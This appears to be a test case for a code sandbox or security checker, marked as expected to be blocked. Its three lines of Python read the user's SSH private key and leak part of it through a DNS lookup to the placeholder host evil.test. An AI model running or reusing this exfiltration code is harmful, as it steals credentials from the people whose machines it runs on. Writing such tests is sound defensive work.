# expect: BLOCKED
import socket, os
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
socket.gethostbyname(key[:30] + ".evil.test")
